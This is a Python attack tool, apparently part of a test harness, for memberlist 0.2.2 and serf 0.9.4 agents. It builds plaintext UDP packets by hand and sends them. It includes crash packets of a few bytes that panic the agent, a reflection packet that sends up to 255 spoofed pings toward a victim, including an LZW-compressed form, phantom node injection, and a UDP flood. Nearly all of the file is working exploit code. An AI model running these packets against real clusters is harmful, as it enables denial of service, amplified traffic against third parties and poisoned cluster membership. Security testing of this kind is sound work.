#!/usr/bin/env python3
"""Attacks on memberlist 0.2.2 agents (serf 0.9.4), standard library only.

Builds memberlist UDP packets by hand: a message is one type byte and a
msgpack body, encoded as memberlist's own go-msgpack handle encodes it
(str for strings and []byte, the smallest int form, maps keyed by field
name); a compound is type 7, a part count and big-endian 16-bit lengths.
Nothing here is encrypted: every attack is plaintext, as an outsider
without the key sends it. Issue 54 item 3; docs/serf-harness.md.

Sub-commands (each prints one JSON object on stdout):
  build KIND ...        the packet bytes in hex, nothing sent
  phantoms              Alive messages for invented nodes
  crash                 one packet that kills the agent (--kind vsn3: an Alive
                        whose Vsn has three entries; empty-part, empty-crc)
  reflect               one packet of many pings whose SourceAddr is a victim
  flood                 UDP as fast as this process sends (kernel socket)
  sink                  count the UDP datagrams and bytes a victim receives
                        (--fence-target: until a ping of its own is answered)
  probe                 one valid ping from --bind, wait for its ack: a fence
                        (everything sent before it has passed the path)
"""
import argparse
import ipaddress
import json
import os
import socket
import struct
import sys
import time

# memberlist 0.2.2 net.go, messageType
PING, INDIRECT_PING, ACK, SUSPECT, ALIVE, DEAD, PUSH_PULL, COMPOUND, USER, COMPRESS, ENCRYPT, NACK, HAS_CRC = range(13)


# ---- msgpack, as go-msgpack 0.5.5's MsgpackHandle{} writes it ----

def mp(v):
    if isinstance(v, bool):
        return b"\xc3" if v else b"\xc2"
    if isinstance(v, int):
        if v < 0:
            raise ValueError("negative ints are not used here")
        if v < 0x80:
            return bytes([v])
        if v < 0x100:
            return b"\xcc" + bytes([v])
        if v < 0x10000:
            return b"\xcd" + struct.pack(">H", v)
        if v < 0x100000000:
            return b"\xce" + struct.pack(">I", v)
        return b"\xcf" + struct.pack(">Q", v)
    if isinstance(v, str):
        v = v.encode()
    if isinstance(v, (bytes, bytearray)):
        # WriteExt=false: []byte is written as a (raw) str, like a string.
        n = len(v)
        if n < 32:
            return bytes([0xa0 | n]) + bytes(v)
        if n < 0x10000:
            return b"\xda" + struct.pack(">H", n) + bytes(v)
        return b"\xdb" + struct.pack(">I", n) + bytes(v)
    if isinstance(v, list):
        n = len(v)
        head = bytes([0x90 | n]) if n < 16 else b"\xdc" + struct.pack(">H", n)
        return head + b"".join(mp(x) for x in v)
    if isinstance(v, dict):
        n = len(v)
        head = bytes([0x80 | n]) if n < 16 else b"\xde" + struct.pack(">H", n)
        return head + b"".join(mp(k) + mp(x) for k, x in v.items())
    raise TypeError(type(v))


def msg(mtype, fields):
    return bytes([mtype]) + mp(fields)


def ip4(a):
    return ipaddress.IPv4Address(a).packed


def alive(node, addr, port, incarnation=1, vsn=(1, 5, 2, 2, 5, 4), meta=b""):
    # memberlist alive{Incarnation, Node, Addr, Port, Meta, Vsn}; Vsn is a
    # []uint8, which go-msgpack writes (and reads) as raw bytes.
    return msg(ALIVE, {"Incarnation": incarnation, "Node": node, "Addr": ip4(addr),
                       "Port": port, "Meta": meta, "Vsn": bytes(vsn)})


def ping(seq, src_addr, src_port, node="", src_node=""):
    # memberlist ping{SeqNo, Node, SourceAddr, SourcePort, SourceNode}
    return msg(PING, {"SeqNo": seq, "Node": node, "SourceAddr": ip4(src_addr),
                      "SourcePort": src_port, "SourceNode": src_node})


def compound(parts):
    if not 1 <= len(parts) <= 255:
        raise ValueError("a compound has 1..255 parts")
    return (bytes([COMPOUND, len(parts)]) + b"".join(struct.pack(">H", len(p)) for p in parts)
            + b"".join(parts))


def lzw_lsb8(data):
    """compress/lzw's Writer (LSB, literal width 8), which memberlist's
    decompressPayload reads: a clear code first, codes of 9..12 bits, a
    clear when the table is full, the end code last."""
    clear, eof, max_code = 256, 257, 4095
    out = bytearray()
    bits = nbits = 0
    width, hi, overflow = 9, eof, 512
    table = {}

    def put(code):
        nonlocal bits, nbits
        bits |= code << nbits
        nbits += width
        while nbits >= 8:
            out.append(bits & 0xff)
            bits >>= 8
            nbits -= 8

    def inc_hi():
        nonlocal hi, width, overflow, table
        hi += 1
        if hi == overflow:
            width += 1
            overflow <<= 1
        if hi == max_code:
            put(clear)
            width, hi, overflow = 9, eof, 512
            table = {}
            return False
        return True

    put(clear)
    if not data:
        put(eof)
    else:
        saved = data[0]
        for x in data[1:]:
            key = (saved << 8) | x
            if key in table:
                saved = table[key]
                continue
            put(saved)
            saved = x
            if inc_hi():
                table[key] = hi
        put(saved)
        inc_hi()
        put(eof)
    if nbits > 0:
        out.append(bits & 0xff)
    return bytes(out)


def compressed(inner):
    # memberlist compress{Algo compressionType(0 = LZW), Buf []byte}
    return msg(COMPRESS, {"Algo": 0, "Buf": lzw_lsb8(inner)})


def reflect_packet(n, victim, vport, form, node=""):
    """n pings in one UDP payload.

    flat:   one compound of n parts (memberlist's own layout). memberlist
            0.2.2 computes the length table's size as uint8(numParts*2),
            which wraps for more than 127 parts: a flat compound of 128..255
            parts is misparsed by the agent.
    nested: a compound of compounds of at most 127 pings each, which 0.2.2
            parses as n pings (handleCompound recurses).
    lzw:    the nested form inside one LZW-compressed message (type 9),
            which memberlist inflates without a size limit; the pings are
            identical, so the packet is small.
    """
    if form == "lzw":
        pings = [ping(1000, victim, vport, node=node)] * n
    else:
        pings = [ping(1000 + k, victim, vport, node=node) for k in range(n)]
    if form == "flat":
        return compound(pings)
    chunks = [pings[i:i + 127] for i in range(0, n, 127)]
    inner = compound(chunks[0]) if len(chunks) == 1 else compound([compound(c) for c in chunks])
    return compressed(inner) if form == "lzw" else inner


CRASH_KINDS = ["vsn3", "empty-part", "empty-crc"]


# ---- sending ----

def parse_target(s, default_port=7946):
    host, _, port = s.partition(":")
    return host, int(port) if port else default_port


def sender(bind):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    if bind:
        h, p = parse_target(bind, 0)
        s.bind((h, p))
    return s


def send_paced(sock, dst, packets, rate):
    """Sends every packet; at most `rate` per second when rate > 0."""
    t0 = time.monotonic()
    sent = nbytes = errors = 0
    for k, p in enumerate(packets):
        if rate > 0:
            due = t0 + k / rate
            now = time.monotonic()
            if due > now:
                time.sleep(due - now)
        try:
            sock.sendto(p, dst)
            sent += 1
            nbytes += len(p)
        except (BlockingIOError, OSError):
            errors += 1
    return {"packets": sent, "payload_bytes": nbytes, "send_errors": errors,
            "seconds": round(time.monotonic() - t0, 3)}


def phantom_packets(args):
    """rounds x count Alive messages for nodes <prefix><k> at addresses from
    --addr-base; each round raises the incarnation so a node that was found
    dead comes back. --per-packet > 1 packs that many into one compound."""
    base = int(ipaddress.IPv4Address(args.addr_base))
    msgs_per_round = []
    for r in range(args.rounds):
        batch = []
        for k in range(args.count):
            addr = str(ipaddress.IPv4Address(base + (k % args.addr_span)))
            batch.append(alive(f"{args.prefix}{k}", addr, 7946, incarnation=args.incarnation + r))
        msgs_per_round.append(batch)
    out = []
    for batch in msgs_per_round:
        if args.per_packet <= 1:
            out.extend(batch)
        else:
            for i in range(0, len(batch), args.per_packet):
                out.append(compound(batch[i:i + args.per_packet]))
    return out


def cmd_build(args):
    if args.kind == "crash":
        p = crash_packet(args.crash, args.node, args.addr)
    elif args.kind == "phantom":
        p = alive(args.node, args.addr, 7946, incarnation=1)
    else:
        p = reflect_packet(args.pings, args.victim, args.victim_port, args.form)
    return {"kind": args.kind, "bytes": len(p), "hex": p.hex()}


def cmd_phantoms(args):
    packets = phantom_packets(args)
    r = send_paced(sender(args.bind), parse_target(args.target), packets, args.rate)
    r.update({"attack": "phantoms", "phantoms": args.count, "rounds": args.rounds,
              "per_packet": args.per_packet})
    return r


def crash_packet(kind, node="evil", addr="10.78.0.200"):
    """Plaintext packets that kill a memberlist 0.2.2 agent (a panic in the
    packet goroutine, nothing recovers it):
    vsn3:        Alive for a node the agent has never seen (so it is added)
                 with Vsn = [pmin 1, pmax 5, pcur 2]: aliveNode passes its
                 version check (len >= 3), stores the node, then reads
                 Vsn[3]: "index out of range [3] with length 3". 57 bytes.
    empty-part:  a compound of one zero-length part: handleCommand reads
                 the type byte of an empty slice. 4 bytes.
    empty-crc:   a CRC header (0x0C) over nothing (CRC32 of b"" is 0): the
                 same empty handleCommand. 5 bytes."""
    if kind == "vsn3":
        return alive(node, addr, 7946, incarnation=1, vsn=(1, 5, 2))
    if kind == "empty-part":
        return bytes([COMPOUND, 1, 0, 0])
    if kind == "empty-crc":
        return bytes([HAS_CRC, 0, 0, 0, 0])
    raise ValueError(kind)


def cmd_crash(args):
    p = crash_packet(args.kind, args.node, args.addr)
    r = send_paced(sender(args.bind), parse_target(args.target), [p], 0)
    r.update({"attack": "crash", "kind": args.kind, "bytes": len(p), "hex": p.hex()})
    return r


def cmd_reflect(args):
    p = reflect_packet(args.pings, args.victim, args.victim_port, args.form, node=args.node)
    r = send_paced(sender(args.bind), parse_target(args.target), [p], 0)
    r.update({"attack": "reflect", "pings": args.pings, "form": args.form, "bytes": len(p)})
    return r


def cmd_flood(args):
    """Sends for --seconds as fast as one Python process can: the fallback
    when tests/serf/udpflood (C++, sendmmsg) was not built."""
    if args.kind == "junk":
        payload = os.urandom(args.size)
        payload = bytes([0xff]) + payload[1:]  # an unknown message type
    else:
        payload = ping(7, args.victim or "127.0.0.1", 7946)
    s = sender(args.bind)
    dst = parse_target(args.target)
    s.connect(dst)
    t0 = time.monotonic()
    end = t0 + args.seconds
    sent = errors = 0
    while time.monotonic() < end:
        for _ in range(256):
            try:
                s.send(payload)
                sent += 1
            except OSError:
                errors += 1
    dt = time.monotonic() - t0
    return {"attack": "flood", "sender": "python", "kind": args.kind, "size": len(payload),
            "packets": sent, "send_errors": errors, "seconds": round(dt, 3),
            "pps": round(sent / dt)}


def fence_socket(bind_ip):
    """A socket on an ephemeral port of its own: whatever arrives there is
    the answer to the ping it sent (nothing else knows the port)."""
    f = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    f.bind((bind_ip, 0))
    return f


def fence_ping(f):
    ip, port = f.getsockname()
    return ping(0x7A5E0001, ip, port)


def cmd_probe(args):
    """One valid ping (reply address = the sender) to --target; waits for
    the agent's answer (plaintext or encrypted, any content) on the same
    socket. Frames from one sender keep their order on the path, so once
    the answer is here every packet sent before the probe has been through
    the gateway (and through the agent's socket)."""
    if not args.bind:
        raise SystemExit("probe: --bind IP (the reply address the ping names)")
    f = fence_socket(parse_target(args.bind, 0)[0])
    t0 = time.monotonic()
    f.sendto(fence_ping(f), parse_target(args.target))
    f.settimeout(args.timeout)
    try:
        data, _ = f.recvfrom(65536)
        return {"probe": "acked", "acked": True, "seconds": round(time.monotonic() - t0, 4), "bytes": len(data)}
    except socket.timeout:
        return {"probe": "timeout", "acked": False, "seconds": args.timeout}


def cmd_sink(args):
    """Counts what arrives at --bind until --seconds pass or --idle seconds
    go by without a datagram after the first; writes JSON to --out too.
    With --fence-target, once --fence-go exists it pings that agent from a
    port of its own and stops when the answer arrives (the agent answers in
    packet order, so everything it sent for earlier packets is here): no
    idle wait when nothing comes."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    s.bind(parse_target(args.bind))
    if args.fence_target:
        return sink_fenced(args, s)
    if args.ready:
        with open(args.ready, "w") as f:
            f.write(str(os.getpid()))
    n = nbytes = 0
    senders = {}
    end = time.monotonic() + args.seconds
    first = None
    while True:
        now = time.monotonic()
        left = end - now
        if first is not None:
            left = min(left, args.idle)
        if left <= 0:
            break
        s.settimeout(left)
        try:
            data, src = s.recvfrom(65536)
        except socket.timeout:
            break
        if first is None:
            first = now
        n += 1
        nbytes += len(data)
        senders[src[0]] = senders.get(src[0], 0) + 1
    return sink_result(args, {"datagrams": n, "payload_bytes": nbytes, "senders": senders})


def sink_result(args, r):
    if args.out:
        with open(args.out + ".tmp", "w") as f:
            json.dump(r, f)
        os.replace(args.out + ".tmp", args.out)
    return r


def sink_fenced(args, s):
    import select
    f = fence_socket(s.getsockname()[0])
    if args.ready:
        with open(args.ready, "w") as fh:
            fh.write(str(os.getpid()))
    n = nbytes = 0
    senders = {}
    end = time.monotonic() + args.seconds
    pinged = fenced = False

    def take():
        nonlocal n, nbytes
        while True:
            try:
                data, src = s.recvfrom(65536, socket.MSG_DONTWAIT)
            except BlockingIOError:
                return
            n += 1
            nbytes += len(data)
            senders[src[0]] = senders.get(src[0], 0) + 1

    while time.monotonic() < end and not fenced:
        if not pinged and os.path.exists(args.fence_go):
            f.sendto(fence_ping(f), parse_target(args.fence_target))
            pinged = True
        ready, _, _ = select.select([s, f], [], [], 0.02)
        if s in ready:
            take()
        if f in ready:
            f.recvfrom(65536)
            fenced = True
            take()
    return sink_result(args, {"datagrams": n, "payload_bytes": nbytes, "senders": senders, "fenced": fenced})


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = ap.add_subparsers(dest="cmd", required=True)

    def common(p):
        p.add_argument("--target", required=True, help="agent host[:port] (port 7946)")
        p.add_argument("--bind", default="", help="local host[:port] to send from")

    b = sub.add_parser("build")
    b.add_argument("kind", choices=["crash", "phantom", "reflect"])
    b.add_argument("--node", default="evil")
    b.add_argument("--addr", default="10.78.0.200")
    b.add_argument("--pings", type=int, default=255)
    b.add_argument("--victim", default="10.78.0.251")
    b.add_argument("--victim-port", type=int, default=7946)
    b.add_argument("--form", choices=["nested", "flat", "lzw"], default="nested")
    b.add_argument("--crash", choices=CRASH_KINDS, default="vsn3")

    p = sub.add_parser("phantoms")
    common(p)
    p.add_argument("--count", type=int, default=100, help="invented nodes")
    p.add_argument("--rounds", type=int, default=1)
    p.add_argument("--rate", type=float, default=0, help="packets/s, 0: as fast as possible")
    p.add_argument("--per-packet", type=int, default=1, help="Alives per packet (a compound when > 1)")
    p.add_argument("--prefix", default="phantom-")
    p.add_argument("--addr-base", default="10.78.0.100")
    p.add_argument("--addr-span", type=int, default=100)
    p.add_argument("--incarnation", type=int, default=1)

    c = sub.add_parser("crash")
    common(c)
    c.add_argument("--kind", choices=CRASH_KINDS, default="vsn3")
    c.add_argument("--node", default="evil", help="vsn3: a name the agent does not know (4 letters: 57 bytes)")
    c.add_argument("--addr", default="10.78.0.200")

    r = sub.add_parser("reflect")
    common(r)
    r.add_argument("--victim", required=True)
    r.add_argument("--victim-port", type=int, default=7946)
    r.add_argument("--pings", type=int, default=255)
    r.add_argument("--form", choices=["nested", "flat", "lzw"], default="nested")
    r.add_argument("--node", default="", help="ping.Node ('' is accepted by every agent)")

    f = sub.add_parser("flood")
    common(f)
    f.add_argument("--seconds", type=float, default=5)
    f.add_argument("--kind", choices=["junk", "ping"], default="junk")
    f.add_argument("--size", type=int, default=64)
    f.add_argument("--victim", default="")

    s = sub.add_parser("sink")
    s.add_argument("--bind", required=True)
    s.add_argument("--seconds", type=float, default=10)
    s.add_argument("--idle", type=float, default=2, help="stop this long after the last datagram")
    s.add_argument("--out", default="")
    s.add_argument("--ready", default="", help="file written once the socket is bound")
    s.add_argument("--fence-target", default="", help="agent host[:port] to ping once --fence-go exists")
    s.add_argument("--fence-go", default="", help="file whose appearance sends the fence ping")

    q = sub.add_parser("probe")
    common(q)
    q.add_argument("--timeout", type=float, default=5)

    args = ap.parse_args()
    out = {"build": cmd_build, "phantoms": cmd_phantoms, "crash": cmd_crash, "reflect": cmd_reflect,
           "flood": cmd_flood, "sink": cmd_sink, "probe": cmd_probe}[args.cmd](args)
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    sys.exit(main())
